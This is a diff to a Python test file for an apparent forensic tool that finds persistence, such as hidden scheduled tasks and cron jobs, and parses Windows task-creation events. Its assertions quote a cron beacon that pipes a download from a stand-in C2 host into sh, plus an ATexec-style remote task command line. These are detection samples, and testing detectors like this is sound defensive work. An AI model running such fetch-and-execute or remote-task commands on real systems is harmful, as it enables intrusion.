@@ -149,8 +149,6 @@ def test_scan_cron_jobs_are_typed_and_equal_the_cli(corpus, tmp_path):
     out = tmp_path / "scan.jsonl"
     report.to_json(out)
     assert [json.loads(l) for l in out.read_text().splitlines()] == report.records()
-    with pytest.raises(NotImplementedError):
-        ev.scan(only=["events"])
     with pytest.raises(ValueError):
         ev.scan(only=["nope"])
 
@@ -258,3 +256,16 @@ def test_triage_notebook_runs(tmp_path):
     )
     assert "OneDrive Updater {5A1B}" in outputs, "the demo's hidden task is listed"
     assert "curl -fsS http://c2.example.invalid/b | sh" in outputs, "the cron beacon is flagged"
+
+
+def test_events_typed_and_tied_to_tasks(real_corpus, tmp_path):
+    logs = tmp_path / "Windows" / "System32" / "winevt" / "Logs"
+    logs.mkdir(parents=True)
+    src = real_corpus / "evtx" / "mdecrevoisier__ID4688_4698_4699_5145_4624-ATexec_remote_trask_creation_GLOBAL.evtx"
+    (logs / "Security.evtx").write_bytes(src.read_bytes())
+    ev = foothold.open(tmp_path)
+    events = ev.events()
+    assert [e.event_id for e in events] == [4698, 4699]
+    assert events[0].task.command_line == "cmd.exe /C whoami > %windir%\\Temp\\bouWFQYO.tmp 2>&1"
+    assert events[0].source.record_id == events[0].record_id
+    assert events[0].timestamp == "2021-06-10T21:21:26.3907508Z"
